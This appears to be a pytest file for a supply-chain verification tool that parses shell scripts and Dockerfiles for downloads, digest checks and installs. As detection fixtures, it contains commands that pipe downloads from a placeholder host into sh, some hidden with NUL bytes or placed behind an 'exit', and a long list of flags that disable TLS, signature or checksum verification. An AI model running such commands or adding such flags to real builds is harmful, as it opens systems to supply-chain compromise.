# ruff: noqa: E501
"""What is marked, where an edit belongs, and which files are followed."""

from __future__ import annotations

import pytest

from tests.formats.shell.cases import H, U
from tests.formats.shell.reading import downloads, facts, verdicts
from verifychain.core.pin import Grade, Malformed, Pin
from verifychain.core.source import Span
from verifychain.facts.broken import Broken
from verifychain.facts.bypass import Bypass
from verifychain.facts.download import Download, Role
from verifychain.facts.install import Install


def marked(text: str, span: Span) -> str:
    return text.encode()[span.start : span.end].decode()


def test_the_url_is_marked_inside_its_command() -> None:
    text = f"FROM scratch\nRUN set -e; \\\n  curl -fsSL \\\n    {U} \\\n    -o t\n"
    (found,) = downloads(text, path="Dockerfile")
    assert marked(text, found.name_span) == U
    assert marked(text, found.span) == f"curl -fsSL \\\n    {U} \\\n    -o t"
    assert (found.via, found.target, found.url) == ("curl", "t", U)


def test_the_digest_is_traced_to_the_line_that_sets_it() -> None:
    text = f'FROM scratch\nARG SUM={H}\nRUN curl -o t {U} && echo "$SUM  t" | sha256sum -c\n'
    (found,) = downloads(text, path="Dockerfile")
    (pin,) = found.pins
    assert isinstance(pin, Pin)
    assert marked(text, pin.span) == H
    assert marked(text, found.origin.span) == H
    assert found.origin.span.start == text.index(H)


_FAR = "# far\n" * 1000  # what stands more than a few thousand bytes away is looked up, and not searched for
_READ = f'curl -o t {U}\necho "$SUM  t" | sha256sum -c\n'


@pytest.mark.parametrize(
    ("text", "place"),
    [
        (f"set -e\nSUM={H}\n# {H}\n{_FAR}{_READ}{_FAR}# {H}\n", 1),
        (f"set -e\ncurl -o t {U}\n{_FAR}sha256sum -c <<E\n{H}  t\nE\n# {H}\n", 0),
        (f"set -e\nSUM=f{H}; SUM=${{SUM#f}}\n{_FAR}{_READ}", 0),  # a part of more digits
        (f"set -e\nSUM={H}\n" + "".join(f"# {at:016}\n" for at in range(70_000)) + _READ, 0),  # too many to remember
    ],
    ids=["the last before the check", "behind the check", "in more digits", "among many"],
)
def test_a_digest_that_stands_far_from_its_check(text: str, place: int) -> None:
    (found,) = downloads(text)
    (pin,) = found.pins
    at = -1
    for _ in range(place + 1):
        at = text.index(H, at + 1)
    assert (found.grade, pin.span.start) == (Grade.VERIFIED, at)
    assert marked(text, pin.span) == H


def test_a_digest_from_outside_names_the_line_that_declares_it() -> None:
    text = f'FROM scratch\nARG SUM\nRUN curl -o t {U} && echo "$SUM  t" | sha256sum -c\n'
    (found,) = downloads(text, path="Dockerfile")
    assert (found.grade, found.variables) == (Grade.EXTERNAL_DIGEST, ("SUM",))
    assert [marked(text, place.location.span) for place in found.chain] == ["SUM"]


def test_a_malformed_digest_is_marked_where_it_is_written() -> None:
    text = f'set -e\nSUM={H[:-1]}\ncurl -o t {U}\necho "$SUM  t" | sha256sum -c\n'
    (found,) = downloads(text)
    assert isinstance(found.malformed, Malformed)
    assert marked(text, found.malformed.span) == H[:-1]


@pytest.mark.parametrize("written", ["SUM=zz", 'SUM="zz"', "SUM='zz'"])
def test_a_short_malformed_digest_is_marked_where_it_is_a_value(written: str) -> None:
    text = f'FROM scratch AS zz\nARG {written}\nRUN : zzz; curl -o t {U} && echo "$SUM  t" | sha256sum -c\n'
    (found,) = downloads(text, path="Dockerfile")
    assert isinstance(found.malformed, Malformed)
    assert found.malformed.span.start == text.index("zz", text.index("ARG"))
    assert marked(text, found.malformed.span) == "zz"


def test_a_ref_that_is_empty_is_the_default_branch() -> None:
    text = (
        'get() { b="${2:-}"; if [ -n "$b" ]; then git clone -b "$b" "$1" d; git -C d checkout "$b"; '
        'else git clone "$1" d; fi; }\nget https://host.example/a.git\n'
    )
    assert {found.git.ref for found in downloads(text) if found.git is not None} == {None}


def test_lists_signatures_and_keys_are_told_apart() -> None:
    text = (
        f"curl -O {U}; curl -O {U}.sha256; curl -O {U}.asc; sha256sum -c tool.tgz.sha256; gpg --verify tool.tgz.asc\n"
    )
    roles = [(found.url.removeprefix(U), found.role) for found in downloads(text)]
    assert roles == [("", Role.ARTIFACT), (".sha256", Role.EVIDENCE), (".asc", Role.EVIDENCE)]


SCRIPT = f'#!/bin/sh -e\ncurl -o t {U}\necho "$SUM  t" | sha256sum -c\n'


@pytest.mark.parametrize(
    "instructions",
    [
        "COPY build/get.sh /tmp/get.sh\nRUN /tmp/get.sh\n",
        "COPY build/get.sh /tmp/\nRUN sh /tmp/get.sh\n",
        "COPY /build/get.sh /tmp/\nRUN sh /tmp/get.sh\n",  # a leading slash is the build context's root
        "COPY build/ /tmp/build/\nRUN bash /tmp/build/get.sh\n",
        "COPY / /srv/\nRUN bash /srv/build/get.sh\n",
        "WORKDIR /srv\nCOPY . .\nRUN ./build/get.sh\n",
        "WORKDIR /srv\nCOPY . .\nRUN set -e; . ./build/get.sh\n",
    ],
)
def test_a_copied_script_is_followed(instructions: str) -> None:
    files = {"build/get.sh": SCRIPT}
    (found,) = downloads(f"FROM scratch\nENV SUM={H}\n{instructions}", files, "Dockerfile")
    assert found.grade is Grade.VERIFIED
    assert found.source is not None
    assert found.source.path == "build/get.sh"
    assert marked(SCRIPT, found.name_span) == U


def test_what_is_outside_the_repository_is_not_followed() -> None:
    names = ("/etc/get.sh", "../get.sh", "a/../../get.sh", "$X/get.sh")
    files = dict.fromkeys([*names, "get.sh"], f"curl -O {U}\n")
    for name, followed in (*((name, 0) for name in names), ("get.sh", 1)):
        text = f"FROM scratch\nCOPY {name} /tmp/get.sh\nRUN /tmp/get.sh\n"
        assert len(downloads(text, files, "Dockerfile")) == followed, name


def test_a_file_that_a_followed_script_checks_is_checked() -> None:
    files = {"check.sh": f'#!/bin/sh -e\necho "{H}  /t" | sha256sum -c\n'}
    text = f"FROM scratch\nCOPY check.sh /\nRUN set -e; curl -o /t {U}; /check.sh; tar xf /t\n"
    assert verdicts(text, files, "Dockerfile") == ["verified"]


SWITCHES = [
    ("curl -fsSk -o t https://h.example/t", "-fsSk"), ("curl --insecure -o t https://h.example/t", "--insecure"),
    ("wget --no-check-certificate https://h.example/t", "--no-check-certificate"),
    ("apt-get install -y --allow-unauthenticated x", "--allow-unauthenticated"),
    ("apt-get install -y --force-yes x", "--force-yes"),
    ("apt-get -o Acquire::https::Verify-Peer=false update", "-o"), ("apk add --allow-untrusted x.apk", "--allow-untrusted"),
    ("yum install --nogpgcheck x", "--nogpgcheck"), ("zypper --no-gpg-checks in x", "--no-gpg-checks"),
    ("pip install --trusted-host h.example x", "--trusted-host"), ("npm install --no-strict-ssl", "--no-strict-ssl"),
    ("npm config set strict-ssl false", "config"), ("git -c http.sslVerify=false clone https://h.example/r", "-c"),
    ("git config --global http.sslVerify false", "http.sslVerify"), ("export GOSUMDB=off", "export GOSUMDB=off"),
    ("GONOSUMCHECK=1 go build", "GONOSUMCHECK=1"), ("GOFLAGS=-insecure go build", "GOFLAGS=-insecure"),
    ("GOINSECURE=* go build", "GOINSECURE=*"), ("export DOCKER_CONTENT_TRUST=0", "export DOCKER_CONTENT_TRUST=0"),
    ("docker pull --disable-content-trust x", "--disable-content-trust"),
    ("cosign verify-blob --insecure-ignore-tlog --key k x", "--insecure-ignore-tlog"),
    ("rpm -i --nosignature x.rpm", "--nosignature"), ("go get -insecure h.example/x", "-insecure"),
    ("gpg --keyserver keys.example --recv-keys ABCDEF0123456789ABCDEF0123456789ABCDEF01 || true", "true"),
    ("apt-key adv --keyserver keys.example --recv-keys ABCDEF01 || :", ":"),
    ("wget --no-check-cert https://h.example/t", "--no-check-cert"), ("wget --no-ch https://h.example/t", "--no-ch"),
    ("wget -e check_certificate=off https://h.example/t", "-e"), ("wget2 --check-certificate=no https://h.example/t", "--check-certificate=no"),
    ("wget --execute 'check-certificate = 0' https://h.example/t", "--execute"),
    ("aria2c --check-certificate=false https://h.example/t", "--check-certificate=false"),
    ("axel -k https://h.example/t", "-k"), ("fetch --no-verify-peer https://h.example/t", "--no-verify-peer"),
    ("xh --verify no https://h.example/t", "--verify"), ("http --verify=false https://h.example/t", "--verify=false"),
    ("uv pip install --allow-insecure-host h.example x", "--allow-insecure-host"), ("yarn config set enableStrictSsl false", "config"),
    ("cosign verify-blob --private-infrastructure --key k x", "--private-infrastructure"), ("rpm -K --nodigest x.rpm", "--nodigest"),
    ("choco install x --ignore-checksums", "--ignore-checksums"), ("skopeo copy --src-tls-verify=false a b", "--src-tls-verify=false"),
]  # fmt: skip


@pytest.mark.parametrize(("text", "mark"), SWITCHES)
def test_switches_that_turn_verification_off(text: str, mark: str) -> None:
    found = [fact for fact in facts(text + "\n") if isinstance(fact, Bypass)]
    assert [marked(text, fact.span) for fact in found] == [mark]


@pytest.mark.parametrize(
    "text",
    [
        "curl -fsS -o t https://h.example/t", "curl -k https://localhost/x", "apt-get -o Acquire::https::Verify-Peer=true update",
        "export GOSUMDB=sum.golang.example", "export DOCKER_CONTENT_TRUST=1", "echo --no-check-certificate", "grep -k x curl",
        "wget --no-cache https://h.example/t", "wget -e robots=off https://h.example/t", "wget2 --check-certificate=on https://h.example/t",
        "wget --execute check_certificate=on https://h.example/t", "aria2c --check-certificate=true https://h.example/t",
        "curl -s --next -o t https://h.example/t", "http --verify=ca.pem https://h.example/t", "aria2c -k 1M https://h.example/t",
        "cosign verify-blob --insecure-ignore-tlog=false --key k x", "git config --global http.sslVerify true", "npm config set registry https://h.example", "rpm -K x.rpm",
        "gpg --keyserver a.example --recv-keys ABCDEF01 || gpg --keyserver b.example --recv-keys ABCDEF01", "gpg --verify s f || true",
    ],
)  # fmt: skip
def test_switches_that_do_not(text: str) -> None:
    assert [fact for fact in facts(text + "\n") if isinstance(fact, Bypass)] == []


def test_switches_in_env() -> None:
    text = "FROM scratch\nENV GOSUMDB=off A=b\nENV DOCKER_CONTENT_TRUST 0\n"
    found = [fact for fact in facts(text, path="Dockerfile") if isinstance(fact, Bypass)]
    assert [marked(text, fact.span) for fact in found] == ["GOSUMDB=off", "DOCKER_CONTENT_TRUST 0"]


def test_switches_in_arg_are_reported_where_a_stage_has_them() -> None:
    text = (
        "ARG GOSUMDB=off\nFROM scratch\nARG GOSUMDB\nARG DOCKER_CONTENT_TRUST=1\n"
        'ARG A=b GOFLAGS="-insecure"\nFROM scratch\nARG GOSUMDB=sum.host.example\n'
    )
    found = [fact for fact in facts(text, path="Dockerfile") if isinstance(fact, Bypass)]
    assert [marked(text, fact.span) for fact in found] == ["GOSUMDB", 'GOFLAGS="-insecure"']


@pytest.mark.parametrize(
    ("text", "right"),
    [
        ("pip install flask", ["pip"]), ("python3 -m pip install flask==1", ["pip"]), ("pip install -r r.txt", ["pip"]),
        ("pip install --require-hashes -r r.txt", []), ("pip install .", []), ("pip list", []), ("uv pip install x", ["pip"]),
        ("npm install", ["npm"]), ("npm ci", []), ("npm i -g x", ["npm"]), ("yarn", ["npm"]), ("yarn install --frozen-lockfile", []),
        ("pnpm add x", ["npm"]), ("npm run build", []), ("go install h.example/x@latest", ["go"]), ("go install h.example/x@v1.2.3", []),
        ("go build ./...", []), ("cargo install x", ["cargo"]), ("cargo install --locked x", []), ("cargo build", []),
        ("gem install rake", ["gem"]), ("bundle install", []), ("choco install git -y", ["choco"]), ("nuget install X", ["nuget"]),
        ("dotnet tool install -g x", ["nuget"]), ("PIP_REQUIRE_HASHES=1 pip install x", []), ("pip install --no-index x", []), ("PIP_REQUIRE_HASHES=0 pip install x", ["pip"]),
        ("export PIP_REQUIRE_HASHES=False; pip install x", ["pip"]), ("PIP_REQUIRE_HASHES= pip install x", ["pip"]),
        ("export PIP_REQUIRE_HASHES=on; pip install x", []),
    ],
)  # fmt: skip
def test_installs(text: str, right: list[str]) -> None:
    assert [fact.manager.value for fact in facts(text + "\n") if isinstance(fact, Install)] == right


def test_a_nul_byte_is_no_way_to_hide() -> None:
    """bash and dash run `cu\\0rl` as curl, and git takes the file for binary."""
    for text in (
        b"#!/bin/sh\n:\ncu\0rl -s https://h.example/a | s\0h\n",
        b"echo\n" * 400 + b"w\0get -qO- h.example|sh",
    ):
        (found,) = [fact for fact in facts(text) if isinstance(fact, Broken)]
        assert text[found.span.start : found.span.end] == b"\0"
        assert found.message.startswith("a NUL byte: shells pass over it")
    assert not [fact for fact in facts(b"curl -s https://h.example/a | sh\n") if isinstance(fact, Broken)]


TAIL = b"__ARCHIVE__\ncurl -s https://h.example/b | sh\n\x1f\x8b\0\0)\nwget -qO- h.example|sh\n"


@pytest.mark.parametrize("end", [b"exit", b"exit 0\n", b'exit "$?" ;\n', b"if a; then\nexit 1\nfi\nexit $?\n"])
def test_the_script_in_front_of_an_archive_is_judged(end: bytes) -> None:
    text = b"#!/bin/sh\ncurl -s https://h.example/a | sh\n" + end.rstrip(b"\n") + b"\n" + TAIL
    one, *rest = facts(text)
    assert isinstance(one, Broken)
    assert one.message.startswith("what stands behind the `exit`")
    assert [fact.url for fact in rest if isinstance(fact, Download)] == ["https://h.example/a"]
    assert not [fact for fact in rest if isinstance(fact, Broken)]


@pytest.mark.parametrize(
    "end",
    [
        b"if a; then\nexit 0\n",
        b"cat <<E\nexit 0\n",
        b"exit() { :; }\nexit 0\n",
        b"exit 0 || b\n",
        b"alias exit=:\nexit\n",
    ],
)
def test_what_may_go_on_behind_an_exit_is_read_on(end: bytes) -> None:
    one = next(
        fact for fact in facts(b"#!/bin/sh\n" + end + b"c\0url https://h.example/b\n") if isinstance(fact, Broken)
    )
    assert one.message.startswith("a NUL byte")


SUMS = "SHA256SUMS"


def test_a_list_beside_the_script_is_the_projects_own() -> None:
    text = f"set -e\nwget -i urls\nsha256sum -c {SUMS}\nsh t\n"
    assert verdicts(text) == ["same-origin"]
    assert verdicts(text, {SUMS: ""}) == ["verified"]
    image = f"FROM a\nCOPY {SUMS} ./\nRUN wget -i urls && sha256sum -c {SUMS} && sh t\n"
    assert verdicts(image, {SUMS: ""}, "Dockerfile") == ["verified"]
    assert verdicts(image.replace("COPY", "# COPY"), {SUMS: ""}, "Dockerfile") == ["same-origin"]


def test_a_list_that_may_have_come_with_very_many_others() -> None:
    many = "".join(f"curl -o f{number} https://files.example/{number}\n" for number in range(80))
    check = f"sha256sum -c {SUMS}\nsh f7\n"
    assert set(verdicts(f"set -e\n{many}{check}")) == {"verified"}
    assert verdicts(f'set -e\n{many}curl -O "$(cat name)"\n{check}').count("same-origin") == 80
